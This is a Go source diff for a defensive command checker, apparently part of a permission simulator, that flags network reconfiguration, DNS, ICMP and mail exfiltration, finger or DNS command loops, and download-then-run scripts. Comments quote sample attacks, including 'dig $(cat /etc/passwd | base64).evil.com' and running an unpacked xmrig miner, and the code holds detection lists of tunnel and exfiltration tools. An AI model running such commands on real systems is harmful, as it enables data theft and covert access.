@@ -1,0 +1,625 @@
+package danger
+
+import (
+	"path"
+	"slices"
+	"strings"
+
+	"github.com/permsim/permsim/engine/shell"
+)
+
+// The machine's network, and channels out of it that are not upload
+// commands (issue 30, round 3). Each family is a mechanism the tools' own
+// documentation names, not a line a collection wrote:
+//
+//   - networkConfig: the programs that own the machine's interfaces,
+//     addresses, routes, wifi, name, proxy and tunnel devices, in their
+//     forms that change them (README: disk-system); their display forms
+//     stay unmarked;
+//   - displayOpened, icmpPayload, dnsNameCarriesFile, channelCommands,
+//     mailAttachment: a display, a file's bytes or a shell handed to
+//     another host by X, ping, DNS names, finger/whois loops and mail
+//     (README: network-exfiltration);
+//   - fetchedThenRun: a file fetched and run in one script, in the
+//     spellings of wget's and curl's file names and of an archive unpacked
+//     (README: download-execute).
+
+func init() {
+	for k, v := range map[string]string{
+		"networkConfig":      "the machine's network configuration changed: an interface configured (ifconfig IF ARG, ip OBJECT add|set|del…), wifi (iwconfig IF ARG, iw … set|connect, nmcli … on|off|up|modify), sysctl KEY=VALUE|-p, hostname NAME, arp -s|-d, ethtool -s|-K, tc|brctl|bridge changes, ifup/ifdown, dhclient, rfkill block, macchanger, tunnel devices (ssh -w, sshuttle, wg-quick, VPN clients, ICMP/DNS tunnels), ipmitool lan set, the desktop proxy",
+		"displayOpened":      "the X display opened to other hosts (xhost +HOST) or a terminal shown on another host's display (-display HOST:N, DISPLAY=HOST:N)",
+		"icmpPayload":        "ping -p with a pattern computed at run time, or hping3 --file: a file's bytes sent in ICMP payloads",
+		"dnsNameCarriesFile": "a DNS client or ping looking up a name built from a file's content ($(cat FILE | base64).HOST)",
+		"channelCommands":    "commands read from finger, whois, DNS or a raw socket and run (eval \"$(finger …)\"): a shell served over that channel",
+		"mailAttachment":     "mail sent with a local file attached (-a, -A, --attach) or as its body (< FILE)",
+		"fetchedThenRun":     "a file fetched by wget or curl (its default name, -P DIR, --output-dir) or unpacked from a fetched archive, then run in the same script",
+	} {
+		ruleTexts[k] = v
+	}
+}
+
+// network runs this file's rules on one command.
+func (c *checker) network(u unit) {
+	cmd, name, ok := u.program()
+	if !ok {
+		return
+	}
+	c.networkConfig(cmd, name)
+	c.displayOpened(cmd, name)
+	c.icmpPayload(cmd, name)
+	c.dnsNameCarriesFile(cmd, name, u.dir)
+	c.channelCommands(cmd, name)
+	c.mailAttachment(cmd, name)
+}
+
+// plainWords are args' literal words that are not options, stopping at
+// the first word that is not literal; valued are options whose next word
+// is their value (skipped with it).
+func plainWords(args []shell.Word, valued ...string) []string {
+	var out []string
+	for i := 0; i < len(args); i++ {
+		a := args[i]
+		if !a.Literal {
+			break
+		}
+		if strings.HasPrefix(a.Lit, "-") && len(a.Lit) > 1 {
+			if slices.Contains(valued, a.Lit) {
+				i++
+			}
+			continue
+		}
+		out = append(out, a.Lit)
+	}
+	return out
+}
+
+// prefixOf reports whether w abbreviates one of full (at least min letters,
+// or the whole word), as ip, tc and nmcli accept.
+func prefixOf(w string, min int, full ...string) bool {
+	for _, f := range full {
+		if w == f || len(w) >= min && strings.HasPrefix(f, w) {
+			return true
+		}
+	}
+	return false
+}
+
+// helpOnly reports a command that only asks for help or a version.
+func helpOnly(args []shell.Word) bool {
+	return hasLit(args, "-h", "--help", "-?", "--version", "-V", "help")
+}
+
+// networkConfig marks disk-system a program that owns part of the
+// machine's network run in a form that changes it (networkChanged).
+func (c *checker) networkConfig(cmd *shell.Command, name string) {
+	if c.networkChanged(cmd, name) {
+		c.add(DiskSystem)
+	}
+}
+
+// networkChanged reports a program that owns part of the machine's network
+// run in a form that changes it. Each case names its tool's display forms,
+// which are left alone.
+func (c *checker) networkChanged(cmd *shell.Command, name string) bool {
+	args := cmd.Args
+	if helpOnly(args) && name != "ifconfig" {
+		return false
+	}
+	w := plainWords(args)
+	switch name {
+	case "ifconfig":
+		// ifconfig(8): no operand, or an interface alone, displays;
+		// anything after the interface (an address, up, netmask, mtu,
+		// hw, promisc) configures it.
+		if len(w) >= 2 {
+			c.because(append([]string{name}, w...)...)
+			return true
+		}
+	case "ip":
+		return c.ipChanges(name, args)
+	case "iwconfig", "iwpriv":
+		// iwconfig(8): "iwconfig [interface]" displays; a parameter after
+		// the interface (essid, mode, retry, txpower, key, …) sets it.
+		// iwpriv's get* commands read.
+		if len(w) >= 2 && !(name == "iwpriv" && strings.HasPrefix(w[1], "get")) {
+			c.because(name, w[0], w[1])
+			return true
+		}
+	case "iw":
+		for _, v := range w {
+			if slices.Contains([]string{"set", "connect", "disconnect", "del", "add", "join", "leave", "switch", "new", "offchannel", "start", "stop"}, v) {
+				c.because(name, v)
+				return true
+			}
+		}
+	case "nmcli":
+		return c.nmcliChanges(name, args)
+	case "sysctl":
+		// sysctl(8): "variable=value" (with or without -w) sets a key;
+		// -p/--load and --system load settings files.
+		for _, a := range args {
+			if strings.Contains(a.Raw, "=") && !strings.HasPrefix(a.Raw, "-") ||
+				a.Literal && (a.Lit == "-p" || a.Lit == "--load" || strings.HasPrefix(a.Lit, "--load=") || a.Lit == "--system" || a.Lit == "-w" || a.Lit == "--write") {
+				c.because(name, a.Raw)
+				return true
+			}
+		}
+	case "hostname":
+		// hostname(1): a name operand, -F/--file or -b sets the name.
+		if len(plainWords(args, "-F", "--file")) > 0 || hasLit(args, "-F", "--file", "-b", "--boot") {
+			c.because(name)
+			return true
+		}
+	case "arp":
+		return hasLit(args, "-s", "--set", "-S", "-d", "--delete", "-f", "--file")
+	case "ethtool":
+		// ethtool(8): lower-case options show, their upper-case (and
+		// long) twins change the device.
+		return hasLit(args, "-s", "--change", "-K", "--features", "--offload", "-A", "--pause", "-C", "--coalesce",
+			"-G", "--set-ring", "-L", "--set-channels", "-E", "--change-eeprom", "-f", "--flash", "-r", "--negotiate",
+			"-X", "--set-rxfh-indir", "-N", "-U", "--config-nfc", "--config-ntuple", "--set-eee", "--set-fec",
+			"--set-priv-flags", "--set-tunable", "--set-phy-tunable", "--reset")
+	case "tc", "bridge":
+		// tc(8), bridge(8): OBJECT add|del|change|replace|set|flush.
+		if len(w) >= 2 && prefixOf(w[1], 1, "add", "delete", "del", "change", "replace", "set", "flush", "append", "link") && !prefixOf(w[1], 1, "show", "list", "ls", "get") {
+			c.because(name, w[0], w[1])
+			return true
+		}
+	case "brctl":
+		return len(w) > 0 && !slices.Contains([]string{"show", "showmacs", "showstp"}, w[0])
+	case "ifup", "ifdown":
+		return !hasLit(args, "-n", "--no-act")
+	case "dhclient", "dhcpcd":
+		// An interface named gets an address, -r/-x/-k give it back; the
+		// bare program is left alone (dev's label i1069-like lines).
+		return !hasLit(args, "-T", "--test", "-U", "--dumplease") && (len(w) > 0 || hasLit(args, "-r", "-x", "-k", "--release"))
+	case "rfkill":
+		return len(w) > 0 && slices.Contains([]string{"block", "unblock", "toggle"}, w[0])
+	case "macchanger":
+		return !hasLit(args, "-s", "--show", "-l", "--list")
+	case "ssh", "autossh":
+		// ssh(1) -w local:remote makes tun devices on both machines;
+		// "-o Tunnel=…" asks for one.
+		for i, a := range args {
+			if !a.Literal {
+				continue
+			}
+			if a.Lit == "-w" || len(a.Lit) > 2 && a.Lit[0] == '-' && a.Lit[1] != '-' && strings.HasSuffix(a.Lit, "w") && !strings.ContainsAny(a.Lit, "=/") {
+				c.because(name, a.Lit)
+				return true
+			}
+			o := strings.ToLower(strings.TrimPrefix(a.Lit, "-o"))
+			if a.Lit == "-o" && i+1 < len(args) {
+				o = strings.ToLower(args[i+1].Lit)
+			}
+			if strings.HasPrefix(o, "tunnel=") && !strings.HasSuffix(o, "=no") || strings.HasPrefix(o, "tunnel ") {
+				c.because(name, a.Lit)
+				return true
+			}
+		}
+	case "sshuttle", "hans", "iodine", "iodined", "icmptunnel":
+		// sshuttle's routes and firewall rules, ICMP and DNS tunnels' tun
+		// device and its address. A VPN client brought up or down is the
+		// user's own everyday (dev's label of "wg-quick down"), so
+		// wg-quick, openvpn and tailscale are not here.
+		return len(args) > 0
+	case "netplan":
+		return len(w) > 0 && slices.Contains([]string{"apply", "try", "set"}, w[0])
+	case "airmon-ng":
+		return len(w) > 0 && slices.Contains([]string{"start", "stop", "check"}, w[0]) && (w[0] != "check" || slices.Contains(w, "kill"))
+	case "ipmitool":
+		// ipmitool(1) lan set: the BMC's address, gateway, access.
+		for i := 0; i+1 < len(w); i++ {
+			if (w[i] == "lan" || w[i] == "lan6") && w[i+1] == "set" {
+				c.because(name, w[i], w[i+1])
+				return true
+			}
+		}
+	case "gsettings":
+		if len(w) >= 2 && w[0] == "set" && strings.HasPrefix(w[1], "org.gnome.system.proxy") {
+			c.because(name, w[0], w[1])
+			return true
+		}
+	case "resolvectl":
+		// resolvectl(1): "dns LINK SERVER…", "domain LINK DOMAIN…" set a
+		// link's resolvers; with the link alone they print.
+		if len(w) >= 3 && slices.Contains([]string{"dns", "domain", "default-route", "llmnr", "mdns", "dnssec", "dnsovertls", "nta"}, w[0]) || len(w) > 0 && w[0] == "revert" {
+			return true
+		}
+	}
+	return false
+}
+
+// ipChanges reports ip(8) OBJECT COMMAND where the command changes the
+// object (add, delete, change, replace, set, flush, …); show, list, get
+// and monitor read. Objects and commands may be abbreviated as ip allows.
+func (c *checker) ipChanges(name string, args []shell.Word) bool {
+	w := plainWords(args, "-n", "-netns", "-b", "-batch", "-rc", "-rcvbuf", "-l", "-loops", "-f", "-family")
+	if len(w) < 2 {
+		return false
+	}
+	objects := []string{"link", "address", "addrlabel", "route", "rule", "neighbour", "neighbor", "ntable", "tunnel",
+		"tuntap", "maddress", "mroute", "mrule", "netns", "l2tp", "fou", "macsec", "tcp_metrics", "token", "vrf",
+		"nexthop", "mptcp", "xfrm", "sr", "ila", "ioam"}
+	if !prefixOf(w[0], 1, objects...) {
+		return false
+	}
+	for _, v := range w[1:min(len(w), 3)] {
+		if prefixOf(v, 2, "show", "list", "lst", "get", "monitor", "help", "exec", "identify", "pids", "save") {
+			return false
+		}
+		if prefixOf(v, 2, "add", "delete", "del", "change", "chg", "replace", "set", "flush", "append", "prepend",
+			"restore", "attach", "update") || v == "a" || v == "d" {
+			c.because(name, w[0], v)
+			return true
+		}
+	}
+	return false
+}
+
+// nmcliChanges reports nmcli(1) turning networking or a radio on or off,
+// bringing a connection or device up or down, or adding, changing or
+// deleting one; its show, status and list forms read.
+func (c *checker) nmcliChanges(name string, args []shell.Word) bool {
+	w := plainWords(args, "-f", "--fields", "-g", "--get-values", "-m", "--mode", "-c", "--colors", "-e", "--escape", "-w", "--wait")
+	if len(w) < 2 {
+		return false
+	}
+	obj, verb := w[0], w[1]
+	changed := false
+	switch {
+	case prefixOf(obj, 1, "networking", "radio"):
+		changed = slices.Contains(w[1:], "on") || slices.Contains(w[1:], "off")
+	case prefixOf(obj, 1, "connection"):
+		changed = prefixOf(verb, 2, "up", "down", "add", "modify", "edit", "clone", "delete", "reload", "load", "import", "migrate")
+	case prefixOf(obj, 1, "device"):
+		changed = prefixOf(verb, 2, "connect", "disconnect", "delete", "set", "reapply", "modify", "up", "down") ||
+			verb == "wifi" && len(w) > 2 && prefixOf(w[2], 2, "connect", "hotspot")
+	case prefixOf(obj, 1, "general"):
+		changed = verb == "hostname" && len(w) > 2 || verb == "reload" || verb == "logging" && len(w) > 2
+	}
+	if changed {
+		c.because(append([]string{name}, w[:min(len(w), 3)]...)...)
+	}
+	return changed
+}
+
+// terminals are X terminal emulators: shown on a display, they hand a
+// shell to whoever sits at it.
+var terminals = map[string]bool{
+	"xterm": true, "uxterm": true, "rxvt": true, "urxvt": true, "aterm": true, "eterm": true, "Eterm": true, "st": true,
+	"konsole": true, "gnome-terminal": true, "xfce4-terminal": true, "mate-terminal": true, "lxterminal": true,
+	"terminator": true, "tilix": true, "alacritty": true, "kitty": true, "mlterm": true,
+}
+
+// remoteDisplay reports an X display name (HOST:D[.S]) on another host.
+func remoteDisplay(d string) bool {
+	i := strings.LastIndexByte(d, ':')
+	if i <= 0 {
+		return false
+	}
+	host := strings.TrimSuffix(d[:i], ":") // DECnet's HOST::D
+	return host != "localhost" && host != "unix" && host != "127.0.0.1" && host != "::1" && !strings.HasPrefix(host, "/")
+}
+
+// displayOpened flags xhost(1) granting hosts (or everyone, "xhost +")
+// access to the display, and a terminal emulator shown on another host's
+// display. "xhost +local:" and "+SI:localuser:NAME" admit local clients
+// only.
+func (c *checker) displayOpened(cmd *shell.Command, name string) {
+	switch {
+	case name == "xhost":
+		for _, a := range cmd.Args {
+			l := strings.ToLower(a.Lit)
+			if a.Literal && strings.HasPrefix(l, "+") && l != "+local:" && !strings.HasPrefix(l, "+si:localuser:") && !strings.HasPrefix(l, "+si:localgroup:") {
+				c.because(name, a.Lit)
+				c.add(NetworkExfiltration)
+				return
+			}
+		}
+	case terminals[name]:
+		for i, a := range cmd.Args {
+			d := ""
+			switch {
+			case (a.Lit == "-display" || a.Lit == "--display" || a.Lit == "-d" && name != "xterm") && i+1 < len(cmd.Args):
+				d = cmd.Args[i+1].Lit
+			case strings.HasPrefix(a.Lit, "--display="), strings.HasPrefix(a.Lit, "-display="):
+				_, d, _ = strings.Cut(a.Lit, "=")
+			}
+			if remoteDisplay(d) {
+				c.because(name, a.Lit, d)
+				c.add(NetworkExfiltration)
+				return
+			}
+		}
+		for _, as := range cmd.Assigns {
+			if as.Name == "DISPLAY" && remoteDisplay(as.Value) {
+				c.because("DISPLAY="+as.Value, name)
+				c.add(NetworkExfiltration)
+				return
+			}
+		}
+	}
+}
+
+// icmpPayload flags ping -p PATTERN where the pattern is computed at run
+// time (a file's bytes, a chunk at a time: a fixed pattern carries
+// nothing), and hping3 -E/--file FILE, which sends the file's data.
+func (c *checker) icmpPayload(cmd *shell.Command, name string) {
+	args := cmd.Args
+	switch name {
+	case "ping", "ping6":
+		for i, a := range args {
+			if a.Literal && a.Lit == "-p" && i+1 < len(args) && !args[i+1].Literal ||
+				!a.Literal && strings.HasPrefix(a.Raw, "-p") {
+				c.because(name, "-p", a.Raw)
+				c.add(NetworkExfiltration)
+				return
+			}
+		}
+	case "hping", "hping2", "hping3":
+		for i, a := range args {
+			if (a.Lit == "-E" || a.Lit == "--file") && i+1 < len(args) && args[i+1].Lit != "/dev/null" {
+				c.because(name, a.Lit, args[i+1].Raw)
+				c.add(NetworkExfiltration)
+				return
+			}
+		}
+	}
+}
+
+// dnsClients look names up (or, ping, make the resolver look one up).
+var dnsClients = map[string]bool{
+	"dig": true, "nslookup": true, "host": true, "drill": true, "kdig": true, "delv": true, "ping": true, "ping6": true,
+	"traceroute": true, "resolvectl": true, "getent": true,
+}
+
+// fileEncoders print a file operand's content (as is or encoded).
+var fileEncoders = map[string]bool{
+	"cat": true, "base64": true, "base32": true, "basenc": true, "xxd": true, "od": true, "hexdump": true, "head": true,
+	"tail": true, "strings": true, "gzip": true, "bzip2": true, "xz": true, "zstd": true, "tac": true, "uuencode": true,
+}
+
+// dnsNameCarriesFile flags a DNS lookup of a name built from a file's
+// content ("dig $(cat /etc/passwd | base64).evil.com"): the name's labels
+// reach the domain's server. A substitution that prints no file
+// ($(whoami), $(hostname)) sends no file, and one that is the whole word
+// (a server address, "@$(…)") is not a name carrying it.
+func (c *checker) dnsNameCarriesFile(cmd *shell.Command, name, dir string) {
+	if !dnsClients[name] {
+		return
+	}
+	for _, a := range cmd.Args {
+		if a.Literal || !(strings.Contains(a.Raw, ").") || strings.Contains(a.Raw, "`.")) || strings.HasPrefix(a.Raw, "@") {
+			continue
+		}
+		s := shell.Parse(": " + a.Raw)
+		for i := range s.Commands {
+			in := &s.Commands[i]
+			reads := slices.ContainsFunc(in.Files(), func(f shell.FileUse) bool { return f.Read && f.Path != "/dev/null" })
+			if !reads && !in.Dynamic && fileEncoders[path.Base(in.Name)] {
+				reads = len(operands(in.Args)) > 0 || slices.ContainsFunc(in.Redirects, func(r shell.Redirect) bool { return r.Read })
+			}
+			if reads {
+				c.because(name, a.Raw)
+				c.add(NetworkExfiltration)
+				return
+			}
+		}
+	}
+}
+
+// channelClients fetch text from another host over a channel that is not
+// a download: finger, whois, DNS, raw sockets.
+var channelClients = map[string]bool{
+	"finger": true, "whois": true, "dig": true, "nslookup": true, "host": true, "drill": true, "nc": true,
+	"ncat": true, "netcat": true, "telnet": true, "socat": true,
+}
+
+// channelCommands flags commands read from such a channel and run by
+// eval or a shell's -c ("eval $(finger "$X"@HOST)" in a loop, the line's
+// output sent back in the next query): the README's C2 loops, a shell
+// served to that host.
+func (c *checker) channelCommands(cmd *shell.Command, name string) {
+	if name != "eval" && !shellNames[name] {
+		return
+	}
+	for _, a := range cmd.Args {
+		if a.Literal {
+			continue
+		}
+		s := shell.Parse(": " + a.Raw)
+		for i := range s.Commands {
+			if n := path.Base(s.Commands[i].Name); channelClients[n] && !s.Commands[i].Dynamic {
+				c.because(name, n)
+				c.add(NetworkExfiltration)
+				return
+			}
+		}
+	}
+}
+
+// mailAttachment flags mail sent with a local file attached: mail/mailx/
+// s-nail/mutt -a FILE (GNU mail's -a is a header, "-a 'From: …'", its
+// attachment -A), sendEmail -a, swaks --attach, mpack FILE ADDRESS, or
+// the file as the body (mail … < FILE).
+func (c *checker) mailAttachment(cmd *shell.Command, name string) {
+	args := cmd.Args
+	file := ""
+	switch name {
+	case "mail", "mailx", "s-nail", "nail", "bsd-mailx", "mutt", "neomutt", "sendEmail", "sendemail", "sendmail":
+		for i, a := range args {
+			if !a.Literal || i+1 >= len(args) {
+				continue
+			}
+			v := args[i+1].Raw
+			if a.Lit == "-A" || a.Lit == "--attach" || a.Lit == "-a" && !strings.Contains(v, ":") && name != "sendmail" {
+				file = v
+				break
+			}
+			if strings.HasPrefix(a.Lit, "--attach=") {
+				file = strings.TrimPrefix(a.Lit, "--attach=")
+				break
+			}
+		}
+		if file == "" && name != "sendEmail" && name != "sendemail" {
+			for _, r := range cmd.Redirects {
+				if p, ok := shell.PathOf(r.Target); ok && r.Read && p != "/dev/null" && !strings.HasPrefix(p, "/dev/fd/") {
+					file = p
+				}
+			}
+		}
+	case "swaks":
+		for i, a := range args {
+			if (a.Lit == "--attach" || a.Lit == "--attach-body" || a.Lit == "--body") && i+1 < len(args) {
+				if v := args[i+1].Lit; strings.HasPrefix(v, "@") || strings.ContainsAny(v, "/.") {
+					file = v
+				}
+			}
+		}
+	case "mpack":
+		if ops := operands(args); len(ops) >= 2 {
+			file = ops[len(ops)-2].Raw
+		}
+	}
+	if file != "" {
+		c.because(name, file)
+		c.add(NetworkExfiltration)
+	}
+}
+
+// archiveExts are the endings of archives whose unpacked folder is named
+// after them.
+var archiveExts = []string{".tar.gz", ".tar.xz", ".tar.bz2", ".tar.zst", ".tgz", ".tbz2", ".txz", ".tar", ".zip", ".7z"}
+
+// unpackers extract archives.
+var unpackers = map[string]bool{"tar": true, "bsdtar": true, "gtar": true, "unzip": true, "7z": true, "7za": true}
+
+// detachRunners run the program given as their first operand (not stripped as
+// wrappers by engine/shell).
+var detachRunners = map[string]bool{"screen": true, "tmux": true, "setsid": true, "daemonize": true, "nohup": true, "timeout": true}
+
+// fetchedThenRun flags a script that fetches a file and then runs it, in
+// the spellings downloadThenRun does not read: wget's URL without a
+// scheme (named after its last part), wget -P DIR and curl --output-dir
+// DIR, and a program run from the folder a fetched archive unpacks to
+// ("tar -xf xmrig-6.11.2-linux-x64.tar.gz; ./xmrig-6.11.2/xmrig").
+func (c *checker) fetchedThenRun(units [][]unit) {
+	fetched := map[string]bool{}
+	type unpacked struct{ dir, stem string }
+	var folders []unpacked
+	for _, us := range units {
+		for _, u := range us {
+			cmd := &u.cmd
+			if cmd.Dynamic || cmd.Name == "" {
+				continue
+			}
+			name := path.Base(cmd.Name)
+			for _, p := range runTargets(cmd, name) {
+				abs := shell.Resolve(p, u.dir, c.home)
+				if fetched[abs] {
+					c.because(name, p)
+					c.add(DownloadExecute)
+					return
+				}
+				rel, ok := strings.CutPrefix(p, "./")
+				if !ok || !strings.Contains(rel, "/") {
+					continue
+				}
+				first, _, _ := strings.Cut(rel, "/")
+				for _, f := range folders {
+					if f.dir == u.dir && len(first) >= 3 && strings.HasPrefix(f.stem, first) {
+						c.because(name, p)
+						c.add(DownloadExecute)
+						return
+					}
+				}
+			}
+			switch {
+			case name == "curl" || name == "wget":
+				for _, t := range fetchedNames(cmd, name) {
+					fetched[shell.Resolve(t, u.dir, c.home)] = true
+				}
+			case unpackers[name]:
+				for _, o := range cmd.Args {
+					if !o.Literal || !fetched[shell.Resolve(o.Lit, u.dir, c.home)] {
+						continue
+					}
+					stem := path.Base(o.Lit)
+					for _, e := range archiveExts {
+						if s, ok := strings.CutSuffix(stem, e); ok {
+							folders = append(folders, unpacked{u.dir, s})
+							break
+						}
+					}
+				}
+			}
+		}
+	}
+}
+
+// runTargets are the paths a command runs: its own name when it is a
+// path, a shell or interpreter's script operand, or a runner's program.
+func runTargets(cmd *shell.Command, name string) []string {
+	var out []string
+	if strings.Contains(cmd.Name, "/") {
+		out = append(out, cmd.Name)
+	}
+	if interpreters[name] || detachRunners[name] || name == "source" || name == "." {
+		for _, a := range cmd.Args {
+			if a.Literal && strings.Contains(a.Lit, "/") && !strings.HasPrefix(a.Lit, "-") {
+				out = append(out, a.Lit)
+				if interpreters[name] {
+					break
+				}
+			}
+		}
+	}
+	return out
+}
+
+// fetchedNames are the files curl or wget writes, in the spellings
+// downloadTargets leaves out: wget's default name for a URL with or
+// without a scheme, joined to -P/--directory-prefix, and curl's -O name
+// joined to --output-dir.
+func fetchedNames(cmd *shell.Command, name string) []string {
+	args := cmd.Args
+	dir := ""
+	for i, a := range args {
+		switch {
+		case name == "wget" && (a.Lit == "-P" || a.Lit == "--directory-prefix") && i+1 < len(args):
+			dir = args[i+1].Lit
+		case name == "wget" && strings.HasPrefix(a.Lit, "--directory-prefix="):
+			dir = strings.TrimPrefix(a.Lit, "--directory-prefix=")
+		case name == "wget" && strings.HasPrefix(a.Lit, "-P") && len(a.Lit) > 2:
+			dir = a.Lit[2:]
+		case name == "curl" && a.Lit == "--output-dir" && i+1 < len(args):
+			dir = args[i+1].Lit
+		}
+	}
+	out := downloadTargets(cmd, name)
+	if name == "wget" && !slices.ContainsFunc(args, func(w shell.Word) bool {
+		return strings.HasPrefix(w.Lit, "-O") || strings.HasPrefix(w.Lit, "--output-document") || w.Lit == "-i"
+	}) {
+		out = nil
+		for _, o := range plainWords(args, "-P", "--directory-prefix", "-e", "--execute", "-o", "--output-file", "-a",
+			"--append-output", "-t", "--tries", "-T", "--timeout", "-U", "--user-agent", "--header", "--user", "--password") {
+			u, _, _ := strings.Cut(o, "?")
+			if _, rest, ok := strings.Cut(u, "://"); ok {
+				u = rest
+			}
+			if strings.HasSuffix(u, "/") {
+				continue
+			}
+			out = append(out, path.Base(u))
+		}
+	}
+	if dir != "" {
+		for i, t := range out {
+			if !strings.Contains(t, "/") {
+				out[i] = path.Join(dir, t)
+			}
+		}
+	}
+	return out
+}
